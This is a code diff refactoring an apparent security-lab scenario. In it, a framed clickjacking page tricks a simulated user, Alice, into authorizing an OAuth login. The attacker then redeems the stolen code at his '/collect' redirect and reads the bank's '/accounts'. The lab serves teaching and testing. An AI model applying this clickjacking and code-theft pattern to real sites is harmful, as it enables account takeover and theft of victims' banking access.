@@ -5,7 +5,7 @@ from urllib.parse import urlsplit
 from flask import Flask, Response, render_template_string, request
 
 from labs.chromium import BrowserStage
-from labs.stage import PUBLIC, Stage, Stuck
+from labs.stage import PUBLIC, Stage
 from labs.steps import step
 
 # The frame lies so that “Allow” is over the button: the attacker has measured Bank ID's page in his own browser.
@@ -52,8 +52,7 @@ def makes_a_link(stage: Stage) -> None:
 @step("Alice")
 def alice_adopts_the_kitten(stage: BrowserStage) -> None:
     """Open the link, and press the button under the kitten."""
-    tab = stage.alice.go(stage.onward).rest().tab
-    stage.onward = ""
+    tab = stage.lead_alice().rest().tab
     button, frame = tab.get_by_role("button", name="Adopt the kitten").bounding_box(), tab.frames[-1]
     tab.mouse.click(button["x"] + button["width"] / 2, button["y"] + button["height"] / 2)
     if frame.url.startswith(stage.here.auth):  # the page let itself be framed: the click was for it
@@ -63,9 +62,5 @@ def alice_adopts_the_kitten(stage: BrowserStage) -> None:
 @step("attacker")
 def spends_the_code(stage: Stage) -> None:
     """Redeem the code that came, with the attacker's own verifier, and ask the bank."""
-    code = stage.collection.newest("code")
-    if not code:
-        raise Stuck("no code came to the app")
-    form = {"redirect_uri": f"{stage.here.attacker}/collect", "code_verifier": stage.kept["verifier"]}
-    token = stage.attacker.redeem(code, client_id=stage.kept["client_id"], **form)
+    token = stage.redeem_newest(stage.kept["client_id"], f"{stage.here.attacker}/collect")
     stage.attacker.bank("GET", "/accounts", token)
